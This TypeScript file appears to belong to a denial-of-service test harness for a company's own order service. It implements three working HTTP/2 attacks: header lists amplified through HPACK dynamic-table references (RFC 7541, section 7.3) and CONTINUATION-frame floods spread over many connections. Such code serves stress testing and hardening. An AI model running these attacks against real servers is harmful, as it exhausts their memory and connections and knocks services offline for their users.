import { setTimeout as sleep } from 'node:timers/promises';
import { OrderService } from '@acme/gen/orders/v1/order_service_pb';
import { methodPath } from '@acme/rpc/contract';
import type { Attack, AttackContext } from '../attack/attack.ts';
import { many } from '../attack/loops.ts';
import { frame, frameFlag, frameType, headerFrames, streamIdOf } from '../wire/frames.ts';
import {
  indexedField,
  insertedField,
  literalField,
  newestDynamicIndex,
  requestFields,
} from '../wire/hpack.ts';
import { connectRaw, type RawConnectionOptions } from '../wire/raw-connection.ts';

/** Just below the 4,096 bytes of the dynamic table, with the entry's overhead of 32. */
const large = 'v'.repeat(3900);
const references = 15;
const connectionCount = 8;
const holdMs = 2000;
const placeOrder = requestFields(methodPath(OrderService.method.placeOrder));

/** Header lists that are small on the wire and large in memory (RFC 7541, section 7.3). */
export const headerLists: readonly Attack[] = [
  {
    name: 'header-lists',
    sends:
      '8 connections x 1,000 streams, each with 58 kB of headers from 15 HPACK references; no request follows',
    run: (context) => openStreams(context, () => ({})),
  },
  {
    name: 'header-lists-unread',
    sends: 'the same in CONTINUATION frames, answers not read, half of the SETTINGS not acknowledged',
    // More than eight CONTINUATION frames of a block end the connection.
    run: (context) => openStreams(context, (index) => ({ reads: false, acknowledges: index % 2 === 0 }), 700),
  },
  {
    name: 'header-endless',
    sends: '200 connections, each with a header block whose CONTINUATION frames never end',
    run: sendEndlessHeaders,
  },
];

async function openStreams(
  { port, isShort }: AttackContext,
  options: (index: number) => RawConnectionOptions,
  frameBytes = 16_000,
): Promise<void> {
  const streams = isShort ? 600 : 1000;
  const again = many(references, () => indexedField(newestDynamicIndex));
  await Promise.all(
    many(connectionCount, async (connectionIndex) => {
      const connection = await connectRaw(port, options(connectionIndex));
      const first = Buffer.concat([placeOrder, insertedField('x-large', large)]);
      const next = Buffer.concat([placeOrder, ...again]);
      for (let index = 0; index < streams && !connection.isClosed; index++)
        await connection.write(
          headerFrames(streamIdOf(index), index === 0 ? first : next, { sizeBytes: frameBytes }),
        );
    }),
  );
  await sleep(holdMs);
}

async function sendEndlessHeaders({ port, isShort }: AttackContext): Promise<void> {
  const rounds = isShort ? 10 : 40;
  const part = literalField('x-part', 'p'.repeat(12_000));
  await Promise.all(
    many(200, async () => {
      const connection = await connectRaw(port);
      await connection.write(frame(frameType.headers, frameFlag.none, 1, placeOrder));
      for (let round = 0; round < rounds && !connection.isClosed; round++) {
        await connection.write(frame(frameType.continuation, frameFlag.none, 1, part));
        await sleep(50);
      }
    }),
  );
}
